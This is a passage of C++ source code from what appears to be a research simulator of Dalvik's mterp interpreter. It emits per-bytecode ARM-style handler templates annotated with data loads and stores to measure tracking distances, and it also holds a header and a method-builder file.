    a.ldrh(dst, memOff(r_pc_bc, 2 * unit_off));
}

/** GET_INST_OPCODE: and r12, rINST, #255. */
void
extractOpcode(Assembler &a)
{
    a.and_(r12, r_inst, imm(255));
}

/** GOTO_OPCODE: add pc, rIBASE, r12, lsl #slot_shift. */
void
gotoOpcode(Assembler &a)
{
    a.add(rpc, r_ibase, regLsl(r12, mem::handler_slot_shift));
}

/** Builder for one handler slot with data-move annotations. */
struct Slot
{
    explicit Slot(Bc bc)
        : a(mem::handler_base +
            static_cast<Addr>(bc) * mem::handler_slot_bytes)
    {}

    /** Record the next instruction as a load of moved program data. */
    Slot &
    dataLoad()
    {
        info.data_load_pcs.push_back(a.here());
        return *this;
    }

    /** Record the next instruction as a store of moved program data. */
    Slot &
    dataStore()
    {
        info.data_store_pcs.push_back(a.here());
        return *this;
    }

    Assembler a;
    HandlerInfo info;
};

/** Finish a slot, checking it fits its 32-instruction budget. */
void
finishSlot(HandlerSet &set, Bc bc, Slot &slot)
{
    pift_assert(slot.a.size() <= mem::handler_slot_bytes /
                isa::inst_bytes,
                "handler for %s overflows its slot (%zu insts)",
                bcName(bc), slot.a.size());
    set.handlers.push_back(slot.a.finish());
    set.info[static_cast<unsigned>(bc)] = std::move(slot.info);
}

/** F12x decode prologue: r3 <- B, r9 <- A. */
void
decode12x(Assembler &a)
{
    a.mov(r3, isa::regLsr(r_inst, 12));
    a.ubfx(r9, r_inst, 8, 4);
}

/** F11x/F21x decode prologue: r9 <- AA. */
void
decodeAA(Assembler &a)
{
    a.mov(r9, isa::regLsr(r_inst, 8));
}

/** F23x operand decode: fetch unit1, r2 <- BB, r3 <- CC. */
void
decode23x(Assembler &a)
{
    decodeAA(a);
    fetch(a, r3, 1);
    a.and_(r2, r3, imm(255));
    a.mov(r3, isa::regLsr(r3, 8));
}

} // anonymous namespace

HandlerSet
emitHandlers()
{
    HandlerSet set;

    // The entry stub: fetch the first unit of a method and dispatch.
    {
        Assembler a(mem::mterp_entry_addr);
        a.ldrh(r_inst, memOff(r_pc_bc, 0));
        extractOpcode(a);
        gotoOpcode(a);
        set.entry = a.finish();
    }

    set.handlers.reserve(num_bytecodes);
    for (unsigned op = 0; op < num_bytecodes; ++op) {
        Bc bc = static_cast<Bc>(op);
        Slot s(bc);
        Assembler &a = s.a;

        switch (bc) {
          case Bc::Nop:
            fetchAdvance(a, 1);
            extractOpcode(a);
            gotoOpcode(a);
            break;

          case Bc::Move:
          case Bc::MoveObject:
            // Figure 9 "move" block; data distance 3.
            decode12x(a);
            s.dataLoad();
            a.ldr(r2, memIdx(r_fp, r3, 2));       // GET_VREG(r2, vB)
            fetchAdvance(a, 1);
            extractOpcode(a);
            s.dataStore();
            a.str(r2, memIdx(r_fp, r9, 2));       // SET_VREG(r2, vA)
            gotoOpcode(a);
            break;

          case Bc::MoveFrom16:
            // Data distance 2.
            decodeAA(a);
            fetch(a, r3, 1);                      // BBBB
            s.dataLoad();
            a.ldr(r2, memIdx(r_fp, r3, 2));
            fetchAdvance(a, 2);
            s.dataStore();
            a.str(r2, memIdx(r_fp, r9, 2));
            extractOpcode(a);
            gotoOpcode(a);
            break;

          case Bc::MoveResult:
          case Bc::MoveResultObject:
            // Data distance 2 (retval slot -> vreg).
            decodeAA(a);
            s.dataLoad();
            a.ldr(r0, memOff(r_self, mem::thread_retval_offset));
            fetchAdvance(a, 1);
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));
            extractOpcode(a);
            gotoOpcode(a);
            break;

          case Bc::MoveException:
            // Data distance 3; also clears the pending slot.
            decodeAA(a);
            s.dataLoad();
            a.ldr(r0, memOff(r_self, mem::thread_exception_offset));
            fetchAdvance(a, 1);
            a.movi(r1, 0);
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));
            a.str(r1, memOff(r_self, mem::thread_exception_offset));
            extractOpcode(a);
            gotoOpcode(a);
            break;

          case Bc::ReturnVoid:
            a.movi(r0, 0);
            a.str(r0, memOff(r_self, mem::thread_retval_offset));
            a.svc(static_cast<uint32_t>(Svc::Return));
            break;

          case Bc::Return:
          case Bc::ReturnObject:
            // Data distance 1 (vreg -> retval slot).
            decodeAA(a);
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r9, 2));
            s.dataStore();
            a.str(r0, memOff(r_self, mem::thread_retval_offset));
            a.svc(static_cast<uint32_t>(Svc::Return));
            break;

          case Bc::Const4:
            a.sbfx(r1, r_inst, 12, 4);
            a.ubfx(r9, r_inst, 8, 4);
            fetchAdvance(a, 1);
            extractOpcode(a);
            a.str(r1, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::Const16:
            decodeAA(a);
            fetch(a, r1, 1);
            a.sxth(r1, r1);
            fetchAdvance(a, 2);
            extractOpcode(a);
            a.str(r1, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::ConstString:
            // Pool table is VM metadata; the ref store is a const
            // store from the tracking perspective.
            decodeAA(a);
            fetch(a, r1, 1);                      // pool index
            a.ldr(r2, memOff(r_self, mem::thread_pool_offset));
            a.ldr(r0, memIdx(r2, r1, 2));
            fetchAdvance(a, 2);
            extractOpcode(a);
            a.str(r0, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::NewInstance:
            a.svc(static_cast<uint32_t>(Svc::NewInstance));
            break;

          case Bc::NewArray:
            a.svc(static_cast<uint32_t>(Svc::NewArray));
            break;

          case Bc::CheckCast:
            decodeAA(a);
            a.ldr(r0, memIdx(r_fp, r9, 2));       // object ref
            a.cmp(r0, imm(0));
            a.ldr(r1, memOff(r0, 0), Cond::Ne);   // class id
            fetch(a, r2, 1);
            a.cmp(r1, reg(r2));                   // nominal check
            fetchAdvance(a, 2);
            extractOpcode(a);
            gotoOpcode(a);
            break;

          case Bc::ArrayLength:
            // Data distance 3 (length word -> vreg).
            decode12x(a);
            a.ldr(r0, memIdx(r_fp, r3, 2));       // array ref
            s.dataLoad();
            a.ldr(r1, memOff(r0, 4));             // length field
            fetchAdvance(a, 1);
            extractOpcode(a);
            s.dataStore();
            a.str(r1, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::Throw:
            decodeAA(a);
            a.ldr(r0, memIdx(r_fp, r9, 2));
            a.str(r0, memOff(r_self, mem::thread_exception_offset));
            a.svc(static_cast<uint32_t>(Svc::Throw));
            break;

          case Bc::Iget:
          case Bc::IgetObject:
            // Data distance 5 (field -> vreg), per Table 1.
            decode12x(a);
            fetch(a, r2, 1);                      // field byte offset
            a.ldr(r0, memIdx(r_fp, r3, 2));       // object ref
            a.add(r0, r0, reg(r2));
            s.dataLoad();
            a.ldr(r1, memOff(r0, 8));             // field value
            fetchAdvance(a, 2);
            extractOpcode(a);
            a.cmp(r0, imm(0));                    // null-check slot
            a.nop();
            s.dataStore();
            a.str(r1, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::Iput:
          case Bc::IputObject:
            // Data distance 4 (vreg -> field).
            decode12x(a);
            fetch(a, r2, 1);
            a.ldr(r0, memIdx(r_fp, r3, 2));       // object ref
            s.dataLoad();
            a.ldr(r1, memIdx(r_fp, r9, 2));       // value
            a.add(r0, r0, reg(r2));
            fetchAdvance(a, 2);
            extractOpcode(a);
            s.dataStore();
            a.str(r1, memOff(r0, 8));
            gotoOpcode(a);
            break;

          case Bc::Sget:
          case Bc::SgetObject:
            // Data distance 3 (statics word -> vreg).
            decodeAA(a);
            fetch(a, r1, 1);
            a.ldr(r2, memOff(r_self, mem::thread_statics_offset));
            s.dataLoad();
            a.ldr(r0, memIdx(r2, r1, 2));
            fetchAdvance(a, 2);
            extractOpcode(a);
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::Sput:
          case Bc::SputObject:
            // Data distance 2 (vreg -> statics word).
            decodeAA(a);
            fetch(a, r1, 1);
            a.ldr(r2, memOff(r_self, mem::thread_statics_offset));
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r9, 2));
            fetchAdvance(a, 2);
            s.dataStore();
            a.str(r0, memIdx(r2, r1, 2));
            extractOpcode(a);
            gotoOpcode(a);
            break;

          case Bc::Aget:
          case Bc::AgetChar:
          case Bc::AgetObject: {
            // Data distance 2 (element -> vreg).
            decode23x(a);
            a.ldr(r0, memIdx(r_fp, r2, 2));       // array ref
            a.ldr(r1, memIdx(r_fp, r3, 2));       // index
            a.add(r0, r0, imm(8));                // element base
            fetchAdvance(a, 2);
            s.dataLoad();
            if (bc == Bc::AgetChar)
                a.ldrh(r2, memIdx(r0, r1, 1));
            else
                a.ldr(r2, memIdx(r0, r1, 2));
            extractOpcode(a);
            s.dataStore();
            a.str(r2, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;
          }

          case Bc::Aput:
          case Bc::AputChar: {
            // Data distance 2 (vreg -> element).
            decode23x(a);
            a.ldr(r0, memIdx(r_fp, r2, 2));       // array ref
            a.ldr(r1, memIdx(r_fp, r3, 2));       // index
            a.add(r0, r0, imm(8));
            s.dataLoad();
            a.ldr(r2, memIdx(r_fp, r9, 2));       // value
            fetchAdvance(a, 2);
            s.dataStore();
            if (bc == Bc::AputChar)
                a.strh(r2, memIdx(r0, r1, 1));
            else
                a.str(r2, memIdx(r0, r1, 2));
            extractOpcode(a);
            gotoOpcode(a);
            break;
          }

          case Bc::AputObject:
            // Data distance 10: the type check sits between the value
            // load and the element store (Section 4.1).
            decode23x(a);
            fetchAdvance(a, 2);
            extractOpcode(a);
            a.ldr(r0, memIdx(r_fp, r2, 2));       // array ref
            a.ldr(r1, memIdx(r_fp, r3, 2));       // index
            s.dataLoad();
            a.ldr(r2, memIdx(r_fp, r9, 2));       // value ref
            a.ldr(r10, memOff(r0, 0));            // array class id
            a.cmp(r2, imm(0));
            a.ldr(r11, memOff(r2, 0), Cond::Ne);  // value class id
            a.cmp(r10, reg(r11));                 // assignability check
            a.mov(r3, reg(r10));                  // (component type)
            a.cmp(r3, reg(r11));
            a.add(r0, r0, imm(8));
            a.nop();                              // (write barrier slot)
            a.nop();
            s.dataStore();
            a.str(r2, memIdx(r0, r1, 2));
            gotoOpcode(a);
            break;

          case Bc::InvokeVirtual:
          case Bc::InvokeStatic:
          case Bc::InvokeDirect:
            a.svc(static_cast<uint32_t>(Svc::Invoke));
            break;

          case Bc::Goto:
            a.sbfx(r2, r_inst, 8, 8);
            a.add(r_pc_bc, r_pc_bc, regLsl(r2, 1));
            a.ldrh(r_inst, memOff(r_pc_bc, 0));
            extractOpcode(a);
            gotoOpcode(a);
            break;

          case Bc::IfEq:
          case Bc::IfNe:
          case Bc::IfLt:
          case Bc::IfGe:
          case Bc::IfGt:
          case Bc::IfLe: {
            Cond cc =
                bc == Bc::IfEq ? Cond::Eq :
                bc == Bc::IfNe ? Cond::Ne :
                bc == Bc::IfLt ? Cond::Lt :
                bc == Bc::IfGe ? Cond::Ge :
                bc == Bc::IfGt ? Cond::Gt : Cond::Le;
            decode12x(a);
            a.ldr(r1, memIdx(r_fp, r3, 2));       // vB
            a.ldr(r0, memIdx(r_fp, r9, 2));       // vA
            a.cmp(r0, reg(r1));
            a.b("taken", cc);
            fetchAdvance(a, 2);
            extractOpcode(a);
            gotoOpcode(a);
            a.label("taken");
            fetch(a, r2, 1);
            a.sxth(r2, r2);
            a.add(r_pc_bc, r_pc_bc, regLsl(r2, 1));
            a.ldrh(r_inst, memOff(r_pc_bc, 0));
            extractOpcode(a);
            gotoOpcode(a);
            break;
          }

          case Bc::IfEqz:
          case Bc::IfNez:
          case Bc::IfLtz:
          case Bc::IfGez: {
            Cond cc =
                bc == Bc::IfEqz ? Cond::Eq :
                bc == Bc::IfNez ? Cond::Ne :
                bc == Bc::IfLtz ? Cond::Lt : Cond::Ge;
            decodeAA(a);
            a.ldr(r0, memIdx(r_fp, r9, 2));
            a.cmp(r0, imm(0));
            a.b("taken", cc);
            fetchAdvance(a, 2);
            extractOpcode(a);
            gotoOpcode(a);
            a.label("taken");
            fetch(a, r2, 1);
            a.sxth(r2, r2);
            a.add(r_pc_bc, r_pc_bc, regLsl(r2, 1));
            a.ldrh(r_inst, memOff(r_pc_bc, 0));
            extractOpcode(a);
            gotoOpcode(a);
            break;
          }

          case Bc::AddInt:
          case Bc::SubInt:
          case Bc::MulInt:
          case Bc::AndInt:
          case Bc::OrInt:
          case Bc::XorInt:
          case Bc::ShlInt:
          case Bc::ShrInt:
            // Data distance 5 (first operand load -> result store).
            decode23x(a);
            s.dataLoad();
            a.ldr(r1, memIdx(r_fp, r2, 2));       // vBB
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r3, 2));       // vCC
            fetchAdvance(a, 2);
            switch (bc) {
              case Bc::AddInt: a.add(r0, r1, reg(r0)); break;
              case Bc::SubInt: a.rsb(r0, r0, reg(r1)); break;
              case Bc::MulInt: a.mul(r0, r1, r0); break;
              case Bc::AndInt: a.and_(r0, r1, reg(r0)); break;
              case Bc::OrInt:  a.orr(r0, r1, reg(r0)); break;
              case Bc::XorInt: a.eor(r0, r1, reg(r0)); break;
              case Bc::ShlInt: a.lsl(r0, r1, reg(r0)); break;
              default:         a.asr(r0, r1, reg(r0)); break;
            }
            extractOpcode(a);
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::DivInt:
          case Bc::RemInt:
            // ABI helper: distance depends on the helper ("unknown").
            decode23x(a);
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r2, 2));       // dividend
            s.dataLoad();
            a.ldr(r1, memIdx(r_fp, r3, 2));       // divisor
            a.svc(static_cast<uint32_t>(
                bc == Bc::DivInt ? Svc::AbiIdiv : Svc::AbiIrem));
            fetchAdvance(a, 2);
            extractOpcode(a);
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::AddInt2Addr:
          case Bc::SubInt2Addr:
          case Bc::MulInt2Addr:
          case Bc::AndInt2Addr:
          case Bc::OrInt2Addr:
          case Bc::XorInt2Addr:
            // Figure 8 template; data distance 5.
            decode12x(a);
            s.dataLoad();
            a.ldr(r1, memIdx(r_fp, r3, 2));       // GET_VREG(r1, vB)
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r9, 2));       // GET_VREG(r0, vA)
            fetchAdvance(a, 1);                   // FETCH_ADVANCE_INST(1)
            switch (bc) {
              case Bc::AddInt2Addr: a.add(r0, r1, reg(r0)); break;
              case Bc::SubInt2Addr: a.sub(r0, r0, reg(r1)); break;
              case Bc::MulInt2Addr: a.mul(r0, r1, r0); break;
              case Bc::AndInt2Addr: a.and_(r0, r1, reg(r0)); break;
              case Bc::OrInt2Addr:  a.orr(r0, r1, reg(r0)); break;
              default:              a.eor(r0, r1, reg(r0)); break;
            }
            extractOpcode(a);                     // GET_INST_OPCODE
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));       // SET_VREG(r0, vA)
            gotoOpcode(a);                        // GOTO_OPCODE
            break;

          case Bc::DivInt2Addr:
            decode12x(a);
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r9, 2));       // vA dividend
            s.dataLoad();
            a.ldr(r1, memIdx(r_fp, r3, 2));       // vB divisor
            a.svc(static_cast<uint32_t>(Svc::AbiIdiv));
            fetchAdvance(a, 1);
            extractOpcode(a);
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::AddIntLit8:
          case Bc::MulIntLit8: {
            bool is_mul = bc == Bc::MulIntLit8;
            decodeAA(a);
            fetch(a, r3, 1);
            a.and_(r2, r3, imm(255));
            a.sbfx(r3, r3, 8, 8);
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r2, 2));       // vBB
            fetchAdvance(a, 2);
            if (is_mul)
                a.mul(r0, r0, r3);
            else
                a.add(r0, r0, reg(r3));
            extractOpcode(a);
            a.nop();
            if (is_mul)
                a.nop();                          // distance 6
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));       // distance 5 (add)
            gotoOpcode(a);
            break;
          }

          case Bc::IntToChar:
          case Bc::IntToByte:
            // Data distance 6.
            decode12x(a);
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r3, 2));
            fetchAdvance(a, 1);
            if (bc == Bc::IntToChar)
                a.uxth(r0, r0);
            else
                a.sbfx(r0, r0, 0, 8);
            extractOpcode(a);
            a.nop();
            a.nop();
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          case Bc::MoveWide:
            // Data distance 4 (register pair via ldrd/strd).
            decode12x(a);
            a.add(r3, r_fp, regLsl(r3, 2));
            s.dataLoad();
            a.ldrd(r0, memOff(r3, 0));
            a.add(r9, r_fp, regLsl(r9, 2));
            fetchAdvance(a, 1);
            extractOpcode(a);
            s.dataStore();
            a.strd(r0, memOff(r9, 0));
            gotoOpcode(a);
            break;

          case Bc::AddLong:
            // Data distance 6.
            decode23x(a);
            a.add(r2, r_fp, regLsl(r2, 2));
            a.add(r3, r_fp, regLsl(r3, 2));
            a.add(r9, r_fp, regLsl(r9, 2));
            s.dataLoad();
            a.ldrd(r0, memOff(r2, 0));
            s.dataLoad();
            a.ldrd(r2, memOff(r3, 0));
            fetchAdvance(a, 2);
            a.adds(r0, r0, reg(r2));
            a.add(r1, r1, reg(r3));   // (no carry chain in this ISA)
            extractOpcode(a);
            s.dataStore();
            a.strd(r0, memOff(r9, 0));
            gotoOpcode(a);
            break;

          case Bc::MulLong:
            // Data distance 10 (the 9-12 bucket of Table 1).
            decode23x(a);
            a.add(r2, r_fp, regLsl(r2, 2));
            a.add(r3, r_fp, regLsl(r3, 2));
            s.dataLoad();
            a.ldrd(r0, memOff(r2, 0));            // vBB pair
            s.dataLoad();
            a.ldrd(r2, memOff(r3, 0));            // vCC pair
            a.mul(r10, r0, r3);                   // lo1*hi2
            a.mul(r11, r1, r2);                   // hi1*lo2
            a.mul(r0, r0, r2);                    // lo1*lo2 (low word)
            fetchAdvance(a, 2);
            a.add(r1, r10, reg(r11));             // high word (approx)
            extractOpcode(a);
            a.add(r9, r_fp, regLsl(r9, 2));
            a.nop();
            s.dataStore();
            a.strd(r0, memOff(r9, 0));
            gotoOpcode(a);
            break;

          case Bc::AddFloat2Addr:
          case Bc::MulFloat2Addr:
          case Bc::DivFloat2Addr: {
            Svc svc =
                bc == Bc::AddFloat2Addr ? Svc::AbiFadd :
                bc == Bc::MulFloat2Addr ? Svc::AbiFmul : Svc::AbiFdiv;
            decode12x(a);
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r9, 2));       // vA
            s.dataLoad();
            a.ldr(r1, memIdx(r_fp, r3, 2));       // vB
            a.svc(static_cast<uint32_t>(svc));
            fetchAdvance(a, 1);
            extractOpcode(a);
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;
          }

          case Bc::IntToFloat:
          case Bc::FloatToInt:
            decode12x(a);
            s.dataLoad();
            a.ldr(r0, memIdx(r_fp, r3, 2));       // vB
            a.svc(static_cast<uint32_t>(
                bc == Bc::IntToFloat ? Svc::AbiI2f : Svc::AbiF2i));
            fetchAdvance(a, 1);
            extractOpcode(a);
            s.dataStore();
            a.str(r0, memIdx(r_fp, r9, 2));
            gotoOpcode(a);
            break;

          default:
            pift_panic("no handler template for bytecode %u", op);
        }

        finishSlot(set, bc, s);
    }

    return set;
}

} // namespace pift::dalvik
