/**
 * @file
 * The mterp: native handler templates for every bytecode.
 *
 * Each bytecode has a fixed-size native handler at
 * handler_base + opcode * handler_slot_bytes, exactly like Dalvik's
 * mterp (Figure 8 of the paper). The templates use the canonical
 * register conventions:
 *
 *   r4 = rPC    (points at the current 16-bit code unit)
 *   r5 = rFP    (virtual-register frame; vX lives at [rFP, X*4])
 *   r6 = rSELF  (thread block: retval, exception, pool, statics)
 *   r7 = rINST  (current code unit)
 *   r8 = rIBASE (handler table base)
 *
 * and the canonical macros:
 *
 *   GET_VREG(r, vX)        ldr  r, [rFP, rX, lsl #2]
 *   SET_VREG(r, vX)        str  r, [rFP, rX, lsl #2]
 *   FETCH_ADVANCE_INST(n)  ldrh rINST, [rPC, #2n]!
 *   GOTO_OPCODE            and  r12, rINST, #255
 *                          add  pc, rIBASE, r12, lsl #7
 *
 * Because the virtual registers are memory-resident, every data move
 * inside a bytecode shows up as genuine load/store trace events at the
 * template-determined distance — the Table 1 numbers are properties
 * of this code, not assertions. Each handler records which of its
 * instructions load/store *moved program data* (as opposed to code
 * units, refs, or indices); the Table 1 bench measures distances
 * against those annotations.
 *
 * Complex operations trap to the runtime bridge with SVC, as the real
 * mterp punts to C: invokes (frame setup; the argument copy itself is
 * executed as native load/store code), allocation, throw unwinding,
 * and the ARM ABI helpers (integer division, all float arithmetic),
 * whose register-spill prologues make their load-store distances long
 * and variable ("unknown" in Table 1).
 */

#ifndef PIFT_DALVIK_HANDLERS_HH
#define PIFT_DALVIK_HANDLERS_HH

#include <array>
#include <vector>

#include "dalvik/bytecode.hh"
#include "isa/assembler.hh"
#include "support/types.hh"

namespace pift::dalvik
{

/** mterp register conventions. */
inline constexpr RegIndex r_pc_bc = 4;  //!< rPC (bytecode pointer)
inline constexpr RegIndex r_fp = 5;     //!< rFP (vreg frame)
inline constexpr RegIndex r_self = 6;   //!< rSELF (thread block)
inline constexpr RegIndex r_inst = 7;   //!< rINST (current unit)
inline constexpr RegIndex r_ibase = 8;  //!< rIBASE (handler table)

/** Service-call numbers used by the handlers. */
enum class Svc : uint32_t
{
    Invoke = 1,      //!< all invoke kinds; bridge decodes the unit
    Return = 2,      //!< pop frame, resume caller
    NewInstance = 3,
    NewArray = 4,
    Throw = 5,
    AbiIdiv = 16,    //!< __aeabi_idiv: r0 <- r0 / r1
    AbiIrem = 17,    //!< __aeabi_idivmod remainder: r0 <- r0 % r1
    AbiFadd = 18,    //!< __aeabi_fadd: r0 <- r0 +f r1
    AbiFmul = 19,
    AbiFdiv = 20,
    AbiI2f = 21,
    AbiF2i = 22
};

/** Which instructions of a handler move program data. */
struct HandlerInfo
{
    std::vector<Addr> data_load_pcs;
    std::vector<Addr> data_store_pcs;
};

/** The emitted interpreter: entry stub plus one program per opcode. */
struct HandlerSet
{
    isa::Program entry;                    //!< fetch+dispatch stub
    std::vector<isa::Program> handlers;    //!< one per defined Bc
    std::array<HandlerInfo, num_bytecodes> info;
};

/**
 * Emit the complete interpreter. Programs are positioned at their
 * final addresses (mem::handler_base / mem::mterp_entry_addr) and
 * ready to be loaded into a Cpu.
 */
HandlerSet emitHandlers();

} // namespace pift::dalvik

#endif // PIFT_DALVIK_HANDLERS_HH
