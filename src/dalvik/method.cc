#include "dalvik/method.hh"

#include "support/logging.hh"

namespace pift::dalvik
{

Dex::Dex()
{
    cls_object = addClass({"java/lang/Object", 0, 0, {}});
    cls_string = addClass({"java/lang/String", 0, 2, {}});
    cls_char_array = addClass({"char[]", 0, 2, {}});
    cls_int_array = addClass({"int[]", 0, 4, {}});
    cls_object_array = addClass({"java/lang/Object[]", 0, 4, {}});
}

MethodId
Dex::addMethod(Method m)
{
    pift_assert(methods.size() < no_method, "too many methods");
    pift_assert(m.nins <= m.nregs,
                "method '%s' has more args than registers",
                m.name.c_str());
    auto id = static_cast<MethodId>(methods.size());
    auto [it, inserted] = method_names.emplace(m.name, id);
    if (!inserted)
        pift_panic("duplicate method name '%s'", m.name.c_str());
    methods.push_back(std::move(m));
    if (verify_hook)
        verify_hook(methods.back(), *this);
    return id;
}

MethodId
Dex::addNative(const std::string &name, uint16_t nins, NativeFn fn,
               MethodOrigin origin)
{
    Method m;
    m.name = name;
    m.nregs = nins;
    m.nins = nins;
    m.origin = origin;
    m.is_native = true;
    m.native = std::move(fn);
    return addMethod(std::move(m));
}

Method &
Dex::method(MethodId id)
{
    pift_assert(id < methods.size(), "bad method id %u", id);
    return methods[id];
}

const Method &
Dex::method(MethodId id) const
{
    pift_assert(id < methods.size(), "bad method id %u", id);
    return methods[id];
}

MethodId
Dex::findMethod(const std::string &name) const
{
    auto it = method_names.find(name);
    if (it == method_names.end())
        pift_panic("unknown method '%s'", name.c_str());
    return it->second;
}

ClassId
Dex::addClass(ClassInfo info)
{
    auto id = static_cast<ClassId>(classes.size());
    classes.push_back(std::move(info));
    return id;
}

ClassInfo &
Dex::classInfo(ClassId id)
{
    pift_assert(id < classes.size(), "bad class id %u", id);
    return classes[id];
}

const ClassInfo &
Dex::classInfo(ClassId id) const
{
    pift_assert(id < classes.size(), "bad class id %u", id);
    return classes[id];
}

uint16_t
Dex::addString(const std::string &s)
{
    auto it = pool_index.find(s);
    if (it != pool_index.end())
        return it->second;
    auto idx = static_cast<uint16_t>(pool.size());
    pool.push_back(s);
    pool_index.emplace(s, idx);
    return idx;
}

uint16_t
Dex::addStatic(const std::string &name)
{
    auto idx = static_cast<uint16_t>(statics.size());
    statics.push_back(name);
    return idx;
}

MethodBuilder::MethodBuilder(std::string name, uint16_t nregs,
                             uint16_t nins)
{
    m.name = std::move(name);
    m.nregs = nregs;
    m.nins = nins;
    m.origin = MethodOrigin::App;
}

MethodBuilder &
MethodBuilder::origin(MethodOrigin o)
{
    m.origin = o;
    return *this;
}

MethodBuilder &
MethodBuilder::label(const std::string &name)
{
    auto [it, inserted] = labels.emplace(name, m.code.size());
    if (!inserted)
        pift_panic("duplicate label '%s' in method '%s'", name.c_str(),
                   m.name.c_str());
    return *this;
}

MethodBuilder &
MethodBuilder::catchHere()
{
    pift_assert(m.catch_offset < 0, "method '%s' has two catch blocks",
                m.name.c_str());
    m.catch_offset = static_cast<int>(m.code.size());
    return *this;
}

MethodBuilder &
MethodBuilder::emit1(Bc bc, uint16_t high)
{
    pift_assert(!finished, "builder reused after finish()");
    m.code.push_back(static_cast<uint16_t>(
        static_cast<uint16_t>(bc) | (high << 8)));
    return *this;
}

MethodBuilder &
MethodBuilder::emit2(Bc bc, uint16_t high, uint16_t unit1)
{
    emit1(bc, high);
    m.code.push_back(unit1);
    return *this;
}

MethodBuilder &
MethodBuilder::branch1(Bc bc, uint16_t high, const std::string &target)
{
    fixups.push_back({m.code.size(), m.code.size(), true, target});
    return emit1(bc, high);
}

MethodBuilder &
MethodBuilder::branch2(Bc bc, uint16_t high, const std::string &target)
{
    fixups.push_back({m.code.size(), m.code.size() + 1, false, target});
    return emit2(bc, high, 0);
}

static uint16_t
nibbles(uint8_t a, uint8_t b)
{
    pift_assert(a < 16 && b < 16, "vreg out of nibble range");
    return static_cast<uint16_t>(a | (b << 4));
}

MethodBuilder &
MethodBuilder::nop()
{
    return emit1(Bc::Nop, 0);
}

MethodBuilder &
MethodBuilder::move(uint8_t a, uint8_t b)
{
    return emit1(Bc::Move, nibbles(a, b));
}

MethodBuilder &
MethodBuilder::moveFrom16(uint8_t aa, uint16_t bbbb)
{
    return emit2(Bc::MoveFrom16, aa, bbbb);
}

MethodBuilder &
MethodBuilder::moveObject(uint8_t a, uint8_t b)
{
    return emit1(Bc::MoveObject, nibbles(a, b));
}

MethodBuilder &
MethodBuilder::moveResult(uint8_t aa)
{
    return emit1(Bc::MoveResult, aa);
}

MethodBuilder &
MethodBuilder::moveResultObject(uint8_t aa)
{
    return emit1(Bc::MoveResultObject, aa);
}

MethodBuilder &
MethodBuilder::moveException(uint8_t aa)
{
    return emit1(Bc::MoveException, aa);
}

MethodBuilder &
MethodBuilder::returnVoid()
{
    return emit1(Bc::ReturnVoid, 0);
}

MethodBuilder &
MethodBuilder::returnValue(uint8_t aa)
{
    return emit1(Bc::Return, aa);
}

MethodBuilder &
MethodBuilder::returnObject(uint8_t aa)
{
    return emit1(Bc::ReturnObject, aa);
}

MethodBuilder &
MethodBuilder::const4(uint8_t a, int8_t value)
{
    pift_assert(value >= -8 && value <= 7, "const/4 literal range");
    return emit1(Bc::Const4,
                 nibbles(a, static_cast<uint8_t>(value & 0xf)));
}

MethodBuilder &
MethodBuilder::const16(uint8_t aa, int16_t value)
{
    return emit2(Bc::Const16, aa, static_cast<uint16_t>(value));
}

MethodBuilder &
MethodBuilder::constString(uint8_t aa, uint16_t pool_idx)
{
    return emit2(Bc::ConstString, aa, pool_idx);
}

MethodBuilder &
MethodBuilder::newInstance(uint8_t aa, uint16_t class_id)
{
    return emit2(Bc::NewInstance, aa, class_id);
}

MethodBuilder &
MethodBuilder::newArray(uint8_t a, uint8_t b, uint16_t class_id)
{
    return emit2(Bc::NewArray, nibbles(a, b), class_id);
}

MethodBuilder &
MethodBuilder::checkCast(uint8_t aa, uint16_t class_id)
{
    return emit2(Bc::CheckCast, aa, class_id);
}

MethodBuilder &
MethodBuilder::arrayLength(uint8_t a, uint8_t b)
{
    return emit1(Bc::ArrayLength, nibbles(a, b));
}

MethodBuilder &
MethodBuilder::throwVreg(uint8_t aa)
{
    return emit1(Bc::Throw, aa);
}

MethodBuilder &
MethodBuilder::iget(uint8_t a, uint8_t b, uint16_t field_off)
{
    return emit2(Bc::Iget, nibbles(a, b), field_off);
}

MethodBuilder &
MethodBuilder::igetObject(uint8_t a, uint8_t b, uint16_t field_off)
{
    return emit2(Bc::IgetObject, nibbles(a, b), field_off);
}

MethodBuilder &
MethodBuilder::iput(uint8_t a, uint8_t b, uint16_t field_off)
{
    return emit2(Bc::Iput, nibbles(a, b), field_off);
}

MethodBuilder &
MethodBuilder::iputObject(uint8_t a, uint8_t b, uint16_t field_off)
{
    return emit2(Bc::IputObject, nibbles(a, b), field_off);
}

MethodBuilder &
MethodBuilder::sget(uint8_t aa, uint16_t idx)
{
    return emit2(Bc::Sget, aa, idx);
}

MethodBuilder &
MethodBuilder::sgetObject(uint8_t aa, uint16_t idx)
{
